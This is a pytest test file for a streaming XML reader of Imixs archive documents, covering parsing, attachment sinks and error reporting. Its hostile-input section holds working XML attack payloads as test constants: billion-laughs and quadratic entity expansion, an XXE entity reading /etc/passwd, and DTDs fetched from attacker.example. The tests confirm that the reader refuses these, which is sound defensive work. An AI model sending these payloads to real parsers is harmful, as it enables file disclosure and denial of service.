"""The streaming XML reader: semantics, fixtures, sinks, errors and hostile input."""

from __future__ import annotations

import base64
import datetime as dt
import hashlib
import io
import os
import time
from collections.abc import Generator, Iterator
from pathlib import Path

import pytest

from imixs_archive.document.model import Document, TypedText
from imixs_archive.document.xml_reader import (
    ReaderLimits,
    discard_files,
    iter_xml_documents,
    read_xml,
    read_xml_document,
)
from imixs_archive.document.xml_writer import to_xml
from imixs_archive.errors import DocumentError, HostileInputError

DATA = Path(__file__).parents[1] / "data" / "imixs"
NS = (
    'xmlns:xs="http://www.w3.org/2001/XMLSchema" '
    'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
)


def doc_xml(body: str, ns: str = NS) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<document {ns}>\n{body}\n</document>\n'.encode()
    )


def blocks(data: bytes, size: int) -> Iterator[bytes]:
    for start in range(0, len(data), size):
        yield data[start : start + size]


# -- fixtures ----------------------------------------------------------------------------------


def test_test_document_fixture() -> None:
    doc = read_xml_document((DATA / "test-document.xml").read_bytes())
    assert doc["$uniqueid"] == ["270e3a6d-a0e4-4875-89f1-3b418859abe5"]
    assert doc["color"] == []
    plus_one = dt.timezone(dt.timedelta(hours=1))
    assert doc["$created"] == [dt.datetime(2018, 2, 18, 22, 36, 25, 72000, tzinfo=plus_one)]
    # the multi-line string, verbatim (newline and the tabs of the indentation)
    assert doc["somedata"] == [
        "Let’s understand this by examining the data of\n\t\t\tan ItemCollection"
    ]


@pytest.mark.parametrize("name", ["document-example.xml", "export-test.xml"])
def test_collection_fixtures(name: str) -> None:
    docs = read_xml((DATA / name).read_bytes())
    assert [d["$uniqueid"] for d in docs] == [["156ea588638-ba4de2b"], ["156ea58b094-282522e1"]]
    first = docs[0]
    assert first["$writeaccess"] == ["anna", "rsoika", "manfred"]
    assert first["description"] == ["<p>Test</p>"]
    assert first["amount"] == [55.123]
    assert first["$isauthor"] == [True]
    assert first["$readaccess"] == [""]
    assert first["txtworkflowsummary"] == ["Test-1 "]
    history = first["txtworkflowhistory"]
    assert len(history) == 1 and isinstance(history[0], list)
    assert history[0][1:] == ["ticket submitted by admin", None]
    assert isinstance(history[0][0], dt.datetime)


# -- semantics ---------------------------------------------------------------------------------


def test_names_lowercased_map_keys_keep_case() -> None:
    doc = read_xml_document(
        doc_xml(
            """<item name=" TxtName "><value xsi:type="xs:string">a</value></item>
            <item name="$file"><value xsi:type="xmlItemArray">
              <item name="Invoice-März.PDF">
                <value xsi:type="xs:string">application/pdf</value>
                <value xsi:type="xs:base64Binary">JVBERi0xLjQK</value>
                <value xsi:type="xmlItemArray">
                  <item name="MD5Checksum"><value xsi:type="xs:string">X</value></item>
                </value>
              </item>
            </value></item>"""
        )
    )
    assert doc["txtname"] == ["a"]
    files = doc["$file"][0]
    assert list(files) == ["Invoice-März.PDF"]
    assert files["Invoice-März.PDF"] == ["application/pdf", b"%PDF-1.4\n", {"MD5Checksum": ["X"]}]


def test_nil_and_missing_values() -> None:
    doc = read_xml_document(
        doc_xml(
            """<item name="a"/>
            <item name="b"><value xsi:nil="true"/></item>
            <item name="c"></item>
            <item name="d"><value xsi:type="xmlItem"><value xsi:nil="true"/></value></item>
            <item name="e"><value xsi:type="xs:string">x</value><value xsi:nil="1"/></item>
            <item name="f"><value xsi:type="xmlItem"/><value xsi:type="xmlItemArray"/></item>"""
        )
    )
    assert doc["a"] == doc["b"] == doc["c"] == []
    assert doc["d"] == [[]]  # one nil is an empty list at every level (Imixs XMLItem)
    assert doc["e"] == ["x", None]
    assert doc["f"] == [[], {}]


def test_untyped_value_is_string_and_text_kept_verbatim() -> None:
    doc = read_xml_document(
        doc_xml(
            """<item name="a"><value>  plain &amp; &lt;simple&gt; &#x263A;  </value></item>
            <item name="b"><value xsi:type="xs:string">   </value></item>
            <item name="c"><value xsi:type="xs:string"><![CDATA[<b>bold</b>]]></value></item>
            <item name="d"><value xsi:type="xs:string">line1&#13;
line2</value></item>"""
        )
    )
    assert doc["a"] == ["  plain & <simple> ☺  "]
    assert doc["b"] == ["   "]
    assert doc["c"] == ["<b>bold</b>"]
    assert doc["d"] == ["line1\r\nline2"]


def test_namespace_prefixes_resolved_by_uri() -> None:
    ns = (
        'xmlns:xsd="http://www.w3.org/2001/XMLSchema" '
        'xmlns:i="http://www.w3.org/2001/XMLSchema-instance"'
    )
    doc = read_xml_document(
        doc_xml(
            """<item name="a"><value i:type="xsd:int">7</value></item>
            <item name="b"><value i:nil="true"/><value i:nil="true"/></item>
            <item name="c">
              <value xmlns:q="http://www.w3.org/2001/XMLSchema" i:type="q:long">8</value>
            </item>""",
            ns,
        )
    )
    assert doc["a"] == [7]
    assert doc["b"] == [None, None]
    assert repr(doc["c"][0]) == "Long(8)"


def test_type_prefix_bound_elsewhere_is_unknown() -> None:
    xml = doc_xml('<item name="a"><value xmlns:xs="urn:other" xsi:type="xs:int">7</value></item>')
    with pytest.raises(DocumentError, match="unknown value type"):
        read_xml(xml)


def test_other_xml_schema_types_are_kept() -> None:
    # Java's JAXB writes a Character as xs:unsignedShort; old data holds xs:date, xs:anyURI
    xml = doc_xml(
        """<item name="c"><value xsi:type="xs:unsignedShort">65</value></item>
        <item name="m"><value xsi:type="xmlItemArray"><item name="d">
            <value xsi:type="xs:date">2012-03-04</value></item></value></item>
        <item name="u"><value xmlns:s="http://www.w3.org/2001/XMLSchema"
            xsi:type="s:anyURI">http://x/?a&amp;b</value></item>"""
    )
    doc = read_xml_document(xml)
    (char,) = doc["c"]
    assert isinstance(char, TypedText) and (char.xs_type, char) == ("xs:unsignedShort", "65")
    assert doc["m"][0]["d"][0].xs_type == "xs:date"
    assert doc["u"] == ["http://x/?a&b"] and doc["u"][0].xs_type == "xs:anyURI"
    written = to_xml(doc)
    assert b'<value xsi:type="xs:unsignedShort">65</value>' in written
    assert b'<value xsi:type="xs:anyURI">http://x/?a&amp;b</value>' in written
    assert read_xml_document(written) == doc


def test_text_input_and_other_encodings() -> None:
    text = doc_xml('<item name="a"><value xsi:type="xs:string">Grüße</value></item>').decode()
    assert read_xml_document(text)["a"] == ["Grüße"]
    latin = text.replace("UTF-8", "ISO-8859-1").encode("latin-1")
    assert read_xml_document(latin)["a"] == ["Grüße"]


def test_collection_yields_each_document_when_complete() -> None:
    body = "".join(
        f'<document><item name="n"><value xsi:type="xs:int">{i}</value></item></document>'
        for i in range(50)
    )
    data = f"<data {NS}>{body}</data>".encode()
    fed = 0

    def source() -> Iterator[bytes]:
        nonlocal fed
        for block in blocks(data, 100):
            fed += len(block)
            yield block

    seen = []
    for doc in iter_xml_documents(source()):
        seen.append((doc["n"][0], fed))
    assert [n for n, _ in seen] == list(range(50))
    assert seen[0][1] < len(data) // 10  # the first document came long before the end


def test_empty_collection() -> None:
    assert read_xml(f"<data {NS}/>".encode()) == []
    assert read_xml(b"<data></data>") == []


def test_file_object_source() -> None:
    data = (DATA / "export-test.xml").read_bytes()
    assert list(iter_xml_documents(io.BytesIO(data))) == read_xml(data)


# -- attachments and sinks ---------------------------------------------------------------------


class RecordingSink:
    def __init__(self, name: str, log: list[str]) -> None:
        self.name = name
        self.pieces: list[bytes] = []
        self.log = log
        log.append(f"open {name}")

    def write(self, piece: bytes) -> None:
        assert isinstance(piece, bytes) and piece
        self.pieces.append(piece)

    def close(self) -> str:
        self.log.append(f"close {self.name}")
        data = b"".join(self.pieces)
        return f"stored:{hashlib.md5(data).hexdigest()}:{len(data)}"

    def abort(self) -> None:
        self.log.append(f"abort {self.name}")


def file_doc(files: dict[str, bytes], wrap: int = 0, cdata: bool = False) -> bytes:
    entries = []
    for name, content in files.items():
        text = base64.b64encode(content).decode()
        if wrap:
            text = "\n".join(text[i : i + wrap] for i in range(0, len(text), wrap))
        if cdata:
            text = f"{text[:5]}<![CDATA[{text[5:50]}]]><!-- note -->{text[50:]}"
        entries.append(
            f"""<item name="{name}">
                <value xsi:type="xs:string">application/octet-stream</value>
                <value xsi:type="xs:base64Binary">{text}</value>
                <value xsi:type="xmlItemArray"><item name="size">
                    <value xsi:type="xs:int">{len(content)}</value>
                </item></value>
            </item>"""
        )
    return doc_xml(
        f"""<item name="$file"><value xsi:type="xmlItemArray">{"".join(entries)}</value></item>
        <item name="other"><value xsi:type="xs:base64Binary">QUJD</value></item>
        <item name="txtname"><value xsi:type="xs:string">after</value></item>"""
    )


ATTACHMENT = os.urandom(200_001)


@pytest.mark.parametrize("block", [1, 3, 7, 64, 4096, 65536, 10**7])
def test_sink_gets_exact_bytes_in_any_blocks(block: int) -> None:
    files = {"Big.BIN": ATTACHMENT, "small.txt": b"hello"}
    data = file_doc(files)
    log: list[str] = []
    sinks: dict[str, RecordingSink] = {}

    def factory(name: str) -> RecordingSink:
        sinks[name] = RecordingSink(name, log)
        return sinks[name]

    (doc,) = iter_xml_documents(blocks(data, block), file_sink=factory)
    assert b"".join(sinks["Big.BIN"].pieces) == ATTACHMENT
    assert b"".join(sinks["small.txt"].pieces) == b"hello"
    entry = doc["$file"][0]["Big.BIN"]
    assert entry[1] == f"stored:{hashlib.md5(ATTACHMENT).hexdigest()}:{len(ATTACHMENT)}"
    assert entry[2] == {"size": [len(ATTACHMENT)]}
    assert doc["other"] == [b"ABC"]  # not an attachment: bytes
    assert doc["txtname"] == ["after"]
    assert log == ["open Big.BIN", "close Big.BIN", "open small.txt", "close small.txt"]


@pytest.mark.parametrize("block", [1, 5, 1000, 65536])
@pytest.mark.parametrize(("wrap", "cdata"), [(76, False), (0, True), (64, True)])
def test_sink_with_line_breaks_cdata_and_comments(block: int, wrap: int, cdata: bool) -> None:
    data = file_doc({"a.bin": ATTACHMENT[:100_000]}, wrap=wrap, cdata=cdata)
    sinks: list[RecordingSink] = []

    def factory(name: str) -> RecordingSink:
        sinks.append(RecordingSink(name, []))
        return sinks[-1]

    list(iter_xml_documents(blocks(data, block), file_sink=factory))
    assert b"".join(sinks[0].pieces) == ATTACHMENT[:100_000]


def test_without_sink_contents_are_bytes() -> None:
    doc = read_xml_document(file_doc({"x.bin": ATTACHMENT}))
    assert doc["$file"][0]["x.bin"][1] == ATTACHMENT


def test_sink_aborted_on_malformed_input_after_file_started() -> None:
    data = file_doc({"a.bin": ATTACHMENT})
    cut = data.index(b"</value>", data.index(b"base64Binary")) - 1000
    broken = data[:cut] + b"<oops>" + data[cut:]
    log: list[str] = []
    with pytest.raises(DocumentError):
        list(iter_xml_documents(blocks(broken, 4096), file_sink=lambda n: RecordingSink(n, log)))
    assert log == ["open a.bin", "abort a.bin"]


def test_sink_aborted_on_bad_base64() -> None:
    data = file_doc({"a.bin": ATTACHMENT}).replace(b'xs:base64Binary">', b'xs:base64Binary">!!', 1)
    log: list[str] = []
    with pytest.raises(DocumentError, match="base64") as info:
        list(iter_xml_documents(blocks(data, 4096), file_sink=lambda n: RecordingSink(n, log)))
    assert "'$file' > 'a.bin'" in str(info.value)
    assert log == ["open a.bin", "abort a.bin"]


def test_sink_aborted_on_truncated_input_and_early_stop() -> None:
    data = file_doc({"a.bin": ATTACHMENT})
    log: list[str] = []
    with pytest.raises(DocumentError, match="malformed XML"):
        list(
            iter_xml_documents([data[: len(data) // 2]], file_sink=lambda n: RecordingSink(n, log))
        )
    assert log == ["open a.bin", "abort a.bin"]

    two = (
        f"<data {NS}>".encode() + data.split(b"?>", 1)[1].replace(NS.encode(), b"") * 2 + b"</data>"
    )
    log.clear()
    reader = iter_xml_documents(blocks(two, 1000), file_sink=lambda n: RecordingSink(n, log))
    next(reader)
    assert isinstance(reader, Generator)
    reader.close()  # the consumer stops while the second file is open
    assert log[-1] == "abort a.bin" and log.count("close a.bin") == 1


def test_error_position_after_bypassed_base64() -> None:
    text = base64.encodebytes(ATTACHMENT).decode()  # 76-char lines
    body = f'<item name="f"><value xsi:type="xs:base64Binary">{text}</value></item>\n<bad/>'
    data = doc_xml(body)
    expected_line = data[: data.index(b"<bad/>")].count(b"\n") + 1
    for block in (65536, len(data)):
        with pytest.raises(DocumentError) as info:
            list(iter_xml_documents(blocks(data, block)))
        assert f"line {expected_line}, column 1" in str(info.value)


# -- errors ------------------------------------------------------------------------------------


def test_malformed_xml_reports_line_and_column() -> None:
    with pytest.raises(DocumentError) as info:
        read_xml(b'<document>\n  <item name="a">\n</document>')
    assert "malformed XML: mismatched tag" in str(info.value)
    assert info.value.where == "line 3, column 3"


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (
            '<item name="x"><value xsi:type="duration">P1D</value></item>',
            "unknown value type 'duration'",
        ),
        (
            '<item name="x"><value xsi:type="xs:int">abc</value></item>',
            "'abc' is not a valid xs:int",
        ),
        ('<item name="x"><value xsi:type="xs:byte">300</value></item>', "300"),
        ('<item name="x"><value xsi:type="xs:int">1<b/></value></item>', "unexpected element <b>"),
        ('<item name="x">text<value/></item>', "unexpected text 'text'"),
        ("<item><value/></item>", "without a name"),
        ('<item name="  "><value/></item>', "must not be empty"),
        ("<value/>", "unexpected element <value>"),
    ],
)
def test_invalid_documents_name_the_item(body: str, message: str) -> None:
    with pytest.raises(DocumentError) as info:
        read_xml(doc_xml(body))
    assert message in str(info.value)
    if 'name="x"' in body:
        assert "item 'x'" in str(info.value)


def test_not_an_imixs_document() -> None:
    with pytest.raises(DocumentError, match=r"not an Imixs document.*<html>"):
        read_xml(b"<html><body/></html>")
    with pytest.raises(DocumentError, match="malformed XML"):
        read_xml(b"")


def test_read_xml_document_wants_exactly_one() -> None:
    with pytest.raises(DocumentError, match="exactly one document, found 2"):
        read_xml_document((DATA / "export-test.xml").read_bytes())


def test_later_items_with_the_same_name_win() -> None:
    doc = read_xml_document(
        doc_xml('<item name="A"><value>1</value></item><item name="a"><value>2</value></item>')
    )
    assert doc == Document({"a": ["2"]})


# -- hostile input -----------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<document><item name="a"><value>&lol9;</value></item></document>"""

QUADRATIC = (
    b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "'
    + b"x" * 100_000
    + b'">]><document><item name="a"><value>'
    + b"&a;" * 100_000
    + b"</value></item></document>"
)

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<document><item name="a"><value>&xxe;</value></item></document>"""

PARAMETER_ENTITIES = b"""<?xml version="1.0"?>
<!DOCTYPE document [
  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
  %remote;
  <!ENTITY % file SYSTEM "file:///etc/passwd">
]>
<document/>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE document SYSTEM "http://attacker.example/imixs.dtd">
<document/>"""


@pytest.mark.parametrize(
    "data",
    [BILLION_LAUGHS, QUADRATIC, XXE, PARAMETER_ENTITIES, EXTERNAL_DTD],
    ids=["billion-laughs", "quadratic-blowup", "xxe", "parameter-entities", "external-dtd"],
)
def test_dtds_refused_fast(data: bytes) -> None:
    started = time.thread_time()  # CPU time of this thread, the parser's: not the load's
    with pytest.raises(HostileInputError, match="DOCTYPE") as info:
        read_xml(data)
    assert time.thread_time() - started < 0.5
    assert "root" not in str(info.value)
    assert "line 2" in str(info.value) or "line 1" in str(info.value)


def test_undeclared_entity_is_malformed_not_resolved() -> None:
    with pytest.raises(DocumentError, match="undefined entity"):
        read_xml(doc_xml('<item name="a"><value>&passwd;</value></item>'))


def test_deep_nesting_refused() -> None:
    deep = '<value xsi:type="xmlItem">' * 200 + "</value>" * 200
    with pytest.raises(HostileInputError, match="nested deeper than 64"):
        read_xml(doc_xml(f'<item name="a">{deep}</item>'))
    shallow = '<value xsi:type="xmlItem">' * 10 + "</value>" * 10
    assert read_xml(doc_xml(f'<item name="a">{shallow}</item>'))


def test_oversize_values_refused() -> None:
    limits = ReaderLimits(max_text=1000, max_inline_binary=3000, max_items=50)
    string = doc_xml(f'<item name="a"><value>{"x" * 1001}</value></item>')
    with pytest.raises(HostileInputError, match="longer than 1000 characters"):
        list(iter_xml_documents([string], limits=limits))
    binary = doc_xml(
        f'<item name="a"><value xsi:type="xs:base64Binary">{"QUJD" * 1001}</value></item>'
    )
    with pytest.raises(HostileInputError, match="larger than 3000 bytes"):
        list(iter_xml_documents(blocks(binary, 512), limits=limits))
    many = doc_xml("".join(f'<item name="i{i}"><value>v</value></item>' for i in range(26)))
    with pytest.raises(HostileInputError, match="more than 50 items"):
        list(iter_xml_documents([many], limits=limits))


def test_sink_contents_not_bound_by_inline_limit() -> None:
    limits = ReaderLimits(max_inline_binary=1000)
    sinks: list[RecordingSink] = []

    def factory(name: str) -> RecordingSink:
        sinks.append(RecordingSink(name, []))
        return sinks[-1]

    data = file_doc({"a.bin": ATTACHMENT})
    list(iter_xml_documents(blocks(data, 65536), file_sink=factory, limits=limits))
    assert b"".join(sinks[0].pieces) == ATTACHMENT


def test_discard_files_keeps_the_items_and_drops_the_bytes() -> None:
    doc = Document({"$uniqueid": "a-1700000000000", "subject": "kept"})
    doc["$file"] = [{"Big.bin": ["application/octet-stream", b"\x01" * 300_000, {}]}]
    [read] = list(iter_xml_documents([to_xml(doc)], file_sink=discard_files))
    assert read["subject"] == ["kept"]
    assert read["$file"][0]["Big.bin"][1] == b""
